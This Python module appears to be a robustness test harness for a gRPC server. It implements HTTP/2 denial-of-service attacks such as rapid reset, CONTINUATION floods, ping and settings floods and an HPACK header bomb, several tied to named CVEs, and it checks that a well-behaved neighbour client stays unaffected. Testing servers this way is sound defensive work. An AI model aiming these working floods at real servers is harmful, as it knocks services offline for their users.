"""Attacks on a server's HTTP/2, one function each, and a neighbour that is to notice nothing of them.

They know of a Target alone, so that any server of gRPC can be one. Each says how it was received:

- `over`: the connection was ended, or its end was announced;
- `refused`: its call was, with a reset or a status;
- `stalled`: the server took no more from it;
- `answered`: its call got what it asked for;
- `tolerated`: none of these; it went on for as long as it cared to.
"""

import threading
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Self

import grpc
import psutil

from tests.server.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    INFER,
    LARGEST_WINDOW,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Peer,
    block,
    call_headers,
    data_frames,
    frame,
    message,
    number,
    setting,
)


@dataclass(frozen=True)
class Target:
    """A server, and one kind of call that it answers. `message` is the call of this number, `right` judges its answer."""

    address: str
    pid: int
    message: Callable[[int], bytes]
    right: Callable[[int, bytes], bool]
    path: str = INFER

    def memory_bytes(self) -> int:
        """What it holds at this moment."""
        resident: int = psutil.Process(self.pid).memory_info().rss
        return resident

    def body(self, tag: int = 1) -> bytes:
        """The call of this number, with its prefix."""
        return message(self.message(tag))


class Neighbour(threading.Thread):
    """A well-behaved caller on a connection of its own: asks without an end, and remembers every answer that was not right."""

    def __init__(self, target: Target) -> None:
        super().__init__(daemon=True)
        self.answered = 0
        self.wrong: list[str] = []
        self._target = target
        self._leaving = threading.Event()
        self._more = threading.Condition()

    def __enter__(self) -> Self:
        self.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._leaving.set()
        self.join(60)

    def run(self) -> None:
        with grpc.insecure_channel(self._target.address, [("grpc.use_local_subchannel_pool", 1)]) as channel:
            ask: Any = channel.unary_unary(self._target.path)
            while not self._leaving.is_set():
                tag = self.answered
                try:
                    if not self._target.right(tag, ask(self._target.message(tag), timeout=20)):
                        self.wrong.append(f"answer {tag} is another's")
                except grpc.RpcError as error:
                    self.wrong.append(f"{error.code().name}: {error.details()}")
                with self._more:
                    self.answered += 1
                    self._more.notify_all()
                self._leaving.wait(0.002)

    def answered_again(self, times: int = 3) -> None:
        """It is answered now, and was rightly answered ever since."""
        self._wait_for(times)
        assert self.wrong == [], self.wrong

    def answered_at_last(self, refusal: str) -> None:
        """It is answered now. It may have been refused with these words until then, but never answered wrongly."""
        while True:
            others = [each for each in self.wrong if each != refusal]
            assert others == [], others
            self.wrong.clear()
            self._wait_for(20)
            if not self.wrong:
                return

    def _wait_for(self, times: int) -> None:
        with self._more:
            goal = self.answered + times
            assert self._more.wait_for(lambda: self.answered >= goal, 60), "the neighbour waits for its answer"


def verdict(peer: Peer, stream: int = 1, patience_s: float = 0.0) -> str:
    """How it was received, in the words above. An end that is still on its way is waited for."""
    peer.read_until(lambda: peer.over or (stream in peer.replies and peer.replies[stream].ended), patience_s)
    reply = peer.replies.get(stream)
    if reply is not None and reply.status == "0" and reply.body:
        return "answered"
    if peer.over:
        return "over"
    return "refused" if reply is not None and reply.ended else "tolerated"


def _flood(target: Target, unit: bytes, times: int, *, first: bytes = b"", reads: bool = True) -> str:
    """`unit` again and again, in large writes: a caller that has nothing else to do."""
    with Peer(target.address, reads=reads, patience_s=3.0) as peer:
        peer.send(first)
        chunk = unit * max(1, 65_536 // len(unit))
        sent = 0
        while sent < times * len(unit) and not peer.over:
            if not peer.send(chunk) and not peer.closed:
                return "stalled"
            sent += len(chunk)
        peer.reads = True
        peer.drained()
        return verdict(peer)


def _many_calls(target: Target, after: Callable[[int], bytes]) -> str:
    """20,000 calls, each followed at once by what `after` makes of its stream."""
    with Peer(target.address, patience_s=10.0) as peer:
        for first in range(1, 40_000, 400):
            calls = (Peer.opening(stream, path=target.path) + after(stream) for stream in range(first, first + 400, 2))
            if not peer.send(b"".join(calls)) or peer.over:
                break
        peer.drained()
        return verdict(peer)


def rapid_reset(target: Target) -> str:
    """Calls that are taken back at once: each costs the server a call, and the caller nothing (CVE-2023-44487)."""
    return _many_calls(target, lambda stream: frame(RST_STREAM, 0, stream, number(8)))


def made_you_reset(target: Target) -> str:
    """The same, but the server is brought to reset its calls: each gets a window update of nothing (CVE-2025-8671)."""
    return _many_calls(target, lambda stream: frame(WINDOW_UPDATE, 0, stream, number(0)))


def continuation_flood(target: Target) -> str:
    """Headers that do not end (CVE-2024-27316)."""
    more = frame(CONTINUATION, 0, 1, block([(b"x-more", b"y" * 80)]))
    return _flood(target, more, 40_000, first=Peer.opening(1, path=target.path, flags=0))


def empty_continuation_flood(target: Target) -> str:
    """The same without even a header: no limit of bytes is ever reached."""
    return _flood(target, frame(CONTINUATION, 0, 1), 200_000, first=Peer.opening(1, path=target.path, flags=0))


def settings_flood(target: Target) -> str:
    return _flood(target, frame(SETTINGS, 0, 0, setting(4, 65_535)), 100_000)


def settings_flood_unread(target: Target) -> str:
    """Nobody reads the acknowledgements (CVE-2019-9515)."""
    return _flood(target, frame(SETTINGS, 0, 0, setting(4, 65_535)), 400_000, reads=False)


def ping_flood(target: Target) -> str:
    return _flood(target, frame(PING, 0, 0, bytes(8)), 100_000)


def ping_flood_unread(target: Target) -> str:
    """Nobody reads the answers (CVE-2019-9512)."""
    return _flood(target, frame(PING, 0, 0, bytes(8)), 150_000, reads=False)


def empty_data_flood(target: Target) -> str:
    """Data without a byte, which no window stops (CVE-2019-9518)."""
    return _flood(target, frame(DATA, 0, 1), 200_000, first=Peer.opening(1, path=target.path))


def window_update_flood(target: Target) -> str:
    return _flood(target, frame(WINDOW_UPDATE, 0, 0, number(1)), 200_000)


def unknown_frame_flood(target: Target) -> str:
    """Of a kind that nobody knows, which HTTP/2 says is to be passed over."""
    return _flood(target, frame(0xEE, 0, 0, bytes(100)), 20_000)


def window_overflow(target: Target) -> str:
    with Peer(target.address) as peer:
        peer.send(frame(WINDOW_UPDATE, 0, 0, number(LARGEST_WINDOW)) * 2)
        peer.drained()
        return verdict(peer, patience_s=2.0)


def window_overflow_of_a_call(target: Target) -> str:
    with Peer(target.address) as peer:
        peer.send(Peer.opening(1, path=target.path) + frame(WINDOW_UPDATE, 0, 1, number(LARGEST_WINDOW)) * 2)
        peer.drained()
        return verdict(peer, patience_s=2.0)


def window_ignored(target: Target) -> str:
    """A body that is sent without being asked for more."""
    with Peer(target.address, patience_s=5.0) as peer:
        peer.send(Peer.opening(1, path=target.path))
        # a connection that grows its windows may take some of it
        for _ in range(64):
            if not peer.send(data_frames(1, message(b"", length=LARGEST_WINDOW) + bytes(2**20), end=False)):
                break
        peer.drained()
        return verdict(peer, patience_s=2.0)


def huge_headers(target: Target) -> str:
    """A megabyte of them, within the rules of HTTP/2."""
    with Peer(target.address) as peer:
        parts = block(call_headers(target.path, *((b"x-%d" % each, b"y" * 8000) for each in range(128))))
        rest = [parts[start : start + 16_384] for start in range(0, len(parts), 16_384)]
        frames = [frame(CONTINUATION, 0, 1, each) for each in rest[1:-1]]
        peer.send(frame(HEADERS, 0, 1, rest[0]) + b"".join(frames) + frame(CONTINUATION, END_HEADERS, 1, rest[-1]))
        peer.send(data_frames(1, target.body()))
        peer.drained()
        return verdict(peer, patience_s=2.0)


def compressed_headers_bomb(target: Target) -> str:
    """One header of 4 kB in the table, named ten thousand times by one byte each."""
    with Peer(target.address, patience_s=10.0) as peer:
        entry = b"\x40\x06x-bomb\x7f\xa1\x1e" + b"y" * 4000
        first = block(call_headers(target.path)) + entry
        peer.send(frame(HEADERS, 0, 1, first) + frame(CONTINUATION, END_HEADERS, 1, b"\xbe" * 16_000))
        peer.send(data_frames(1, target.body()))
        peer.drained()
        return verdict(peer, patience_s=2.0)


FLOODS: tuple[Callable[[Target], str], ...] = (
    rapid_reset,
    made_you_reset,
    continuation_flood,
    empty_continuation_flood,
    settings_flood,
    settings_flood_unread,
    ping_flood,
    ping_flood_unread,
    empty_data_flood,
    window_update_flood,
    unknown_frame_flood,
    window_overflow,
    window_overflow_of_a_call,
    window_ignored,
    huge_headers,
    compressed_headers_bomb,
)
